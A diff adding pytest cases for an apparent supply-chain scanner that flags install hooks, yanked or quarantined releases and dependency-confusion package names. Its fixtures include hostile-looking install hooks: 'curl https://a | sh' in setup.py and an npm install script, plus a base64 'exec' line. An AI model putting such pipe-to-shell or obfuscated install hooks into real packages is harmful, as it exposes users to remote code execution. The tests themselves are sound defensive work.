@@ -2,6 +2,7 @@
 
 import json
 import random
+import re
 from pathlib import Path
 
 import pytest
@@ -9,7 +10,8 @@ import pytest
 from gipfel_cluster.edf.check import check_edf
 from gipfel_cluster.installs import command_problems, unpinned, variable_problem
 from gipfel_extension.cli import main
-from gipfel_extension.gate.dependencies import KNOWN, dependency_findings, is_dependency_file, likely_meant
+from gipfel_extension.gate.dependencies import dependency_findings, is_dependency_file
+from gipfel_extension.gate.package_index import KNOWN, PackageIndex, likely_meant
 
 HASHED = "torch==2.4.0 \\\n    --hash=sha256:" + "a" * 64 + "\n"
 CONFUSED = {
@@ -35,6 +37,155 @@ SAFE = {
     "Containerfile": f"FROM debian@sha256:{'a' * 64}\n# curl x | sh\nRUN apt-get update && pip install --require-hashes -r r.txt\n",  # noqa: E501
     "torch.setup": "source venv/bin/activate\nexport A=1  # pip install x\ncurl -o f https://a && sha256sum -c s && sh f\npip install -e . ./x a==1\n",  # noqa: E501
 }  # fmt: skip
+
+
+HOOKS = {
+    "setup.py": (
+        (
+            "import base64, subprocess\nfrom urllib.request import urlopen as get\n"
+            "from setuptools import setup\n"
+            "exec(base64.b64decode('cHJpbnQ='))\nget('https://a')\nsubprocess.run(['make'])\n"
+            "setup(name='x', cmdclass={})\n"
+        ),
+        {("high", 4), ("medium", 5), ("low", 6)},
+    ),
+    "a/setup.py": ("import os\nos.system('curl -s https://a | sh')\n", {("high", 2)}),
+    "b/setup.py": ("print 'two'\n", {("low", 0)}),
+    "pyproject.toml": (
+        '[build-system]\nbuild-backend = "own"\nbackend-path = ["."]\n[tool.hatch.build.hooks.custom]\n',
+        {("low", 3), ("low", 4)},
+    ),
+    "package.json": (
+        (
+            '{"scripts": {\n"preinstall": "node check.js",\n"install": "curl https://a | sh",\n"test": "1",\n'
+            '"postinstall": "node -e 1"}}'
+        ),
+        {("low", 2), ("high", 3), ("medium", 5)},
+    ),
+    "package-lock.json": (
+        '{"packages": {"": {},\n"node_modules/@a/x": {"version": "1",\n"hasInstallScript": true}}}',
+        {("low", 3)},
+    ),
+    "requirements.txt": ("\n--no-binary :all:\n" + HASHED, {("low", 2)}),
+    "uv.lock": (
+        (
+            '[[package]]\nname = "x"\nversion = "1"\nsource = { registry = "https://a" }\n'
+            'sdist = { url = "https://a/x-1.tar.gz", hash = "sha256:1" }\n'
+        ),
+        {("low", 2)},
+    ),
+    "poetry.lock": (
+        '[[package]]\nname = "x"\nversion = "1"\nfiles = [{file = "x-1.tar.gz", hash = "sha256:1"}]\n',
+        {("low", 2)},
+    ),
+}
+
+
+@pytest.mark.parametrize("name", HOOKS)
+def test_what_runs_at_installation_is_named_with_its_line(name):
+    text, wanted = HOOKS[name]
+    found = [each for each in dependency_findings(name, text.encode()) if each.rule == "install-hook"]
+    lines = {
+        (each.severity, int(match[1]) if (match := re.match(r"Line (\d+): ", each.message)) else 0)
+        for each in found
+    }
+    assert lines == wanted
+    assert all(each.fix.startswith("Write ") for each in found)
+
+
+def test_a_usual_setup_py_is_not_accused():
+    text = (
+        "from setuptools import find_packages, setup\nfrom pathlib import Path\n"
+        "exec(open('x/version.py').read())\nreadme = Path('README.md').read_text()\n"
+        "setup(name='x', version=__version__, packages=find_packages(), long_description=readme)\n"
+    )
+    assert dependency_findings("setup.py", text.encode()) == []
+
+
+def _index(folder: Path) -> PackageIndex:
+    """A mirror with listings as PEP 691 and as HTML, two of them cut off."""
+
+    def listing(name: str, content: str, file: str = "index.json") -> None:
+        place = folder / "simple" / name / file
+        place.parent.mkdir(parents=True)
+        place.write_text(content)
+
+    files = [
+        {"filename": "numpy-1.0-py3-none-any.whl", "yanked": "breaks\nall"},
+        {"filename": "numpy-1.0.tar.gz", "yanked": True},
+        {"filename": "numpy-1.1.tar.gz", "yanked": False},
+        {"filename": "numpy-1.2rc1.tar.gz"},
+        {"filename": "numpy-2.0.tar.gz"},
+        {"filename": "numpy-1.0.exe"},
+    ]
+    listing("numpy", json.dumps({"files": files}), "index.v1_json")
+    listing("acme-core", json.dumps({"files": []}))
+    pages = '<a href="../torch_x-1.0%2Bcpu-py3-none-any.whl#sha256=1" data-yanked="old">x</a>'
+    listing("torch-x", f"<html>{pages}</html>", "index.html")
+    listing("broken", pages, "index.html")
+    listing("half", '{"files": [{"filename": "half-1.0')
+    listing("evil", json.dumps({"files": [], "project-status": {"status": "quarantined"}}))
+    return PackageIndex(folder, ["acme-*", "@acme/*"])
+
+
+def test_withdrawn_releases_are_found_in_a_mirror_of_an_index(tmp_path):
+    index = _index(tmp_path)
+    text = "numpy==1.0\nnumpy==1.1 ; python_version > '3'\nTorch_X==1.0+cpu\nevil==1\nscipy>=1\n"
+    found = {each.rule: each for each in dependency_findings("requirements.txt", text.encode(), index)}
+    assert found["yanked"].message == "Line 3: Torch_X 1.0+cpu was withdrawn (yanked): old."
+    assert found["quarantined"].severity == "critical"
+    (numpy,) = [
+        each
+        for each in dependency_findings("x.setup", b"cd /\npip install numpy==1.0\n", index)
+        if each.rule == "yanked"
+    ]
+    assert numpy.message == "Line 2: numpy 1.0 was withdrawn (yanked): breaks all."
+    assert numpy.fix == "Write numpy==1.1, and lock again."
+    assert (index.not_judged, index.not_scanned) == ([], [])
+    dependency_findings("requirements.txt", b"broken==1\nhalf==1\nabsent==2\nnumpy==3\n", index)
+    lines = "\n".join(index.not_judged)
+    for name in ("broken/index.html", "half/index.json", "absent 2", "numpy 3"):
+        assert name in lines
+    assert "could not be judged" in lines
+
+
+def test_names_of_the_site_on_public_indexes(tmp_path):
+    lock = (
+        '[[package]]\nname = "acme-core"\nversion = "9"\nsource = { registry = "HOST/simple" }\n'
+        '[[package]]\nname = "acme-site"\nversion = "1"\nsource = { registry = "https://pypi.site/simple" }\n'
+    )
+    hosts = ("https://pypi" + ".org", "https://registry" + ".npmjs.org")
+    npm = {"node_modules/@acme/x": {"resolved": f"{hosts[1]}/@acme/x.tgz", "integrity": "1"}}
+    several = "--extra-index-url https://a\n\nacme-x==1\nacme-y @ https://pypi.site/acme_y-1.whl\n"
+    files = {
+        "uv.lock": (lock.replace("HOST", hosts[0]), ["Line 2"]),
+        "package-lock.json": (json.dumps({"packages": npm}), ["Line 1"]),
+        "requirements.txt": (several, ["Line 3"]),
+        "a/requirements.txt": ("Acme.Core==1\nacme_other==1\n", ["Line 1"]),
+        "b/requirements.txt": ("--index-url https://pypi.site/simple\nacme-core==1\n", []),
+        "pyproject.toml": (
+            '[project]\ndependencies = [\n"acme-core>=1"]\n[tool.uv.sources]\nacme-core = {index="site"}\n',
+            [],
+        ),
+    }
+    for name, (text, wanted) in files.items():
+        found = dependency_findings(name, text.encode(), _index(tmp_path / name.replace("/", "-")))
+        own = [each for each in found if each.rule == "own-name"]
+        assert [each.message.partition(":")[0] for each in own] == wanted, name
+        assert all(each.fix.startswith("Write ") for each in own)
+
+
+def test_without_a_mirror_withdrawn_releases_are_not_called_clean(tmp_path, capsys, monkeypatch):
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
+    (tmp_path / "requirements.txt").write_text(HASHED)
+    argv = ["scan", str(tmp_path / "requirements.txt"), "--json"]
+    assert main(argv) == 0
+    (line,) = json.loads(capsys.readouterr().out)["not_scanned"]
+    assert "withdrawn (yanked) could not be judged" in line
+    _index(tmp_path / "mirror")
+    assert main([*argv, "--index", str(tmp_path / "mirror")]) == 2
+    (line,) = json.loads(capsys.readouterr().out)["not_judged"]
+    assert "does not list torch 2.4.0" in line
 
 
 def rules(name: str, text: str) -> set[str]:
